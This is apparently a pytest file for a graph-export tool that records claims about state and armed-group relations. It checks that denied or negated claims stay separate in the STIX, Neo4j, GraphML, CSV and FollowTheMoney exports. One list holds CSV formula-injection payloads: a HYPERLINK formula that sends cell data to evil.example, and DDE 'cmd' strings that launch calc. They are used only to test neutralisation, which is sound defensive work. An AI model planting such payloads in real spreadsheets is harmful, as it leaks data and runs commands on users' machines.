"""Exports keep their meaning: a negated or denied claim never reads as the positive
relation to a tool that ignores proxygraph's own properties; spreadsheet formulas in
article text stay text; the STIX export is linear in the number of claims."""

from __future__ import annotations

import csv
import json
import re
import time
from pathlib import Path

import networkx as nx
import pytest
import stix2
from stix2validator import validate_file

from proxygraph.export import export, load_snapshot, snapshot
from proxygraph.export.tables import FORMULA_STARTS, safe_cell
from proxygraph.graph.evidence import holds
from proxygraph.graph.stories import claim_triple
from proxygraph.models import Claim, Document
from proxygraph.ontology import CERTAINTIES, relations
from proxygraph.store import ActorRow
from test_export_fixtures import publish_db  # noqa: F401

POSITIVE_STIX = {r.lower().replace("_", "-") for r in relations()}


@pytest.fixture(scope="module")
def snap(publish_db):  # noqa: F811
    return load_snapshot(publish_db)


def triples(claims: list[Claim], keep) -> list[tuple[str, str, str]]:
    return sorted((c.subject, c.relation, c.object) for c in claims if keep(c))


# -- STIX ------------------------------------------------------------------------------


def plain_stix(path: Path) -> list:
    """The bundle as a consumer that knows no extension sees it: custom properties and the
    extension definition removed, then parsed by stix2 with custom content refused."""
    bundle = json.loads(path.read_text("utf-8"))
    objects = []
    for obj in bundle["objects"]:
        if obj["type"] == "extension-definition":
            continue
        objects.append(
            {k: v for k, v in obj.items() if not k.startswith("x_") and k != "extensions"}
        )
    return stix2.parse({**bundle, "objects": objects}, allow_custom=False).objects


def test_export_meaning_stix_negated_and_denied_are_not_positive_relationships(snap, tmp_path):
    path = tmp_path / "b.json"
    export(snap, "stix", path)
    assert validate_file(str(path)).is_valid
    objects = plain_stix(path)
    names = {o.id: o.name for o in objects if o.type in ("identity", "threat-actor")}
    rels = [o for o in objects if o.type == "relationship"]
    positive = sorted(
        (names[r.source_ref], r.relationship_type.upper().replace("-", "_"), names[r.target_ref])
        for r in rels
        if r.relationship_type in POSITIVE_STIX
    )
    assert positive == triples(snap.claims, holds)
    assert ("Russia", "DESIGNATES_TERRORIST", "Taliban") not in positive
    kinds = sorted(r.relationship_type for r in rels if r.relationship_type not in POSITIVE_STIX)
    assert kinds == ["x-proxygraph-denied-arms", "x-proxygraph-not-designates-terrorist"]
    notes = {o.content: o.abstract for o in objects if o.type == "note"}
    assert notes["Moscow denies arming the Taliban."].startswith("DENIED: Russia ARMS Taliban")
    assert (
        "Russia NOT DESIGNATES_TERRORIST Taliban"
        in notes["Russia did not designate the Taliban as terrorists."]
    )


# -- Neo4j -----------------------------------------------------------------------------


def cypher_edges(folder: Path) -> list[tuple[str, str, str, str]]:
    """What load.cypher creates from claims.csv, read as Neo4j would: for each statement
    over claims.csv, its ``WHERE row.rel_type = '...'`` filter and the relationship types
    it creates; (start, type, end) for every row it takes, by the row's names."""
    rows = _rows(folder / "claims.csv")
    script = (folder / "load.cypher").read_text("utf-8")
    out = []
    for statement in script.split(";\n"):
        if "file:///claims.csv" not in statement:
            continue
        where = re.search(r"WHERE row\.rel_type = '(\w+)'", statement)
        creates = re.findall(r"\((\w)\)-\[:(\w+)[ \]].*?->\((\w)\)", statement, re.S)
        for row in rows:
            if where and row["rel_type"] != where.group(1):
                continue
            ends = {"s": row["subject"], "o": row["object"], "d": row["doc"], "c": row["key"]}
            out += [(ends[a], kind, ends[b], row["key"]) for a, kind, b in creates]
    return out


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def test_export_meaning_neo4j_negated_and_denied_get_their_own_type(snap, tmp_path):
    export(snap, "neo4j", tmp_path)
    edges = cypher_edges(tmp_path)
    actors = {a.name for a in snap.actors}
    between_actors = sorted((s, t, o) for s, t, o, _ in edges if s in actors and o in actors)
    positive = [(s, t, o) for s, t, o in between_actors if t in relations()]
    assert positive == triples(snap.claims, holds)
    others = sorted(t for _, t, _ in between_actors if t not in relations())
    assert others == ["DENIED_ARMS", "NOT_DESIGNATES_TERRORIST"]
    assert len(between_actors) == len(snap.claims)  # one relationship per claim


def test_export_meaning_neo4j_documents_link_to_their_claims(snap, tmp_path):
    export(snap, "neo4j", tmp_path)
    edges = cypher_edges(tmp_path)
    states = [(d, c) for d, t, c, _ in edges if t == "STATES"]
    keys = [key for key, _ in snap.keyed_claims()]
    assert sorted(c for _, c in states) == sorted(keys)
    docs = {row["id"] for row in _rows(tmp_path / "documents.csv")}
    assert {d for d, _ in states} == {c.doc for c in snap.claims} <= docs
    by_key = dict(snap.keyed_claims())
    assert all(by_key[c].doc == d for d, c in states)
    claim_rows = {r["key"]: r for r in _rows(tmp_path / "claims.csv")}
    assert len(claim_rows) == len(keys)  # the key is unique, even for a repeated claim
    subjects = {(c, s) for c, t, s, _ in edges if t == "SUBJECT"}
    assert subjects == {(k, c.subject) for k, c in snap.keyed_claims()}


# -- GraphML / GEXF --------------------------------------------------------------------


@pytest.mark.parametrize("fmt, read", [("graphml", nx.read_graphml), ("gexf", nx.read_gexf)])
def test_export_meaning_graph_negations_are_separate_edges(snap, tmp_path, fmt, read):
    path = tmp_path / f"g.{fmt}"
    export(snap, fmt, path)
    graph = read(str(path))
    # a reader that knows only the edge's name (its key, id or label)
    named = sorted(
        (u, data.get("label", key), v) for u, v, key, data in graph.edges(keys=True, data=True)
    )
    positive = [(u, k, v) for u, k, v in named if k in relations()]
    # symmetric relations have their actors in name order
    assert positive == sorted({claim_triple(c) for c in snap.claims if holds(c)})
    assert ("Russia", "DESIGNATES_TERRORIST", "Taliban") not in positive
    assert {k for _, k, _ in named} - set(relations()) == {"NOT_ARMS", "NOT_DESIGNATES_TERRORIST"}
    # and a filter on the attribute gives the same split
    for _, _, key, data in graph.edges(keys=True, data=True):
        assert data["holds"] is (key in relations())
        assert data["relation"] == key


# -- CSV formulas ----------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_export_safe_cell_neutralises_formula_starts(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Russia", "", "'quoted", " =1", 3, -3, 2.5, True, None])
def test_export_safe_cell_leaves_other_values(value):
    assert safe_cell(value) == value


def hostile_snapshot():
    doc = Document(
        id=HOSTILE[0],
        text="x",
        title=HOSTILE[0],
        author=HOSTILE[1],
        publisher=HOSTILE[3],
        url=HOSTILE[4],
        published="2020",
    )
    claims = [
        Claim(doc.id, HOSTILE[i], "ARMS", HOSTILE[i + 1], HOSTILE[i - 1], 0, 1, source=HOSTILE[5])
        for i in range(1, 5)
    ]
    actors = [ActorRow(v, "state", False, 1, 1, 1) for v in HOSTILE]
    return snapshot(claims, [doc], actors)


@pytest.mark.parametrize("fmt", ["csv", "neo4j"])
def test_export_csv_cells_never_start_a_formula(tmp_path, fmt):
    export(hostile_snapshot(), fmt, tmp_path)
    files = sorted(tmp_path.glob("*.csv"))
    assert files
    seen = 0
    for path in files:
        with path.open(encoding="utf-8", newline="") as f:
            for row in csv.reader(f):
                assert not [cell for cell in row if cell.startswith(FORMULA_STARTS)], path
                seen += sum(cell.startswith("'") for cell in row)
    assert seen >= len(HOSTILE)  # the payloads are there, as text


# -- STIX speed ------------------------------------------------------------------------


def synthetic(n: int, actors: int = 200):
    names = [f"Actor {i}" for i in range(actors)]
    rels = sorted(relations())
    docs = [
        Document(id=f"d{i}", text="x", url=f"https://n{i % 30}.example/{i}", publisher=f"N{i % 30}")
        for i in range(max(1, n // 4))
    ]
    claims = [
        Claim(
            docs[i % len(docs)].id,
            names[i % actors],
            rels[i % len(rels)],
            names[(i * 7 + 1) % actors],
            f"Sentence {i}.",
            i,
            i + 10,
            negated=i % 11 == 0,
            certainty=CERTAINTIES[i % len(CERTAINTIES)],
            time=str(2000 + i % 20),
        )
        for i in range(n)
    ]
    rows = [
        ActorRow(a, "state" if i % 2 else "armed_group", False, 1, 1, 1)
        for i, a in enumerate(names)
    ]
    return snapshot(claims, docs, rows)


def test_export_stix_five_thousand_claims_in_seconds(tmp_path):
    """232 claims took 49 s (a quadratic serialiser); 10,000 take about 2.5 s now."""
    snap = synthetic(5000)
    began = time.perf_counter()
    export(snap, "stix", tmp_path / "b.json")
    took = time.perf_counter() - began
    objects = json.loads((tmp_path / "b.json").read_text("utf-8"))["objects"]
    assert sum(o["type"] == "relationship" for o in objects) == 5000
    assert took < 10, f"{took:.1f} s"


# -- FollowTheMoney --------------------------------------------------------------------


def test_export_meaning_ftm_role_and_membership_only_for_claims_that_hold(snap, tmp_path):
    from followthemoney import model

    member = ("a3", "Qasem Soleimani", "MEMBER_OF", "Quds Force", "q", 0, 1)
    denied_member = Claim(*member, certainty="denied")
    snap2 = snapshot([*snap.claims, denied_member], snap.documents, snap.actors)
    path = tmp_path / "e.json"
    export(snap2, "ftm", path)
    proxies = [model.get_proxy(json.loads(line)) for line in path.read_text("utf-8").splitlines()]
    roles = sorted(p.first("role") for p in proxies if p.schema.is_a("Interval"))
    positive = sorted(c.relation for c in snap2.claims if holds(c))
    assert [r for r in roles if r in relations()] == positive
    assert {r for r in roles if r not in relations()} == {
        "DENIED ARMS",
        "NOT DESIGNATES_TERRORIST",
        "DENIED MEMBER_OF",
    }
    assert sum(p.schema.name == "Membership" for p in proxies) == 1  # the one that holds
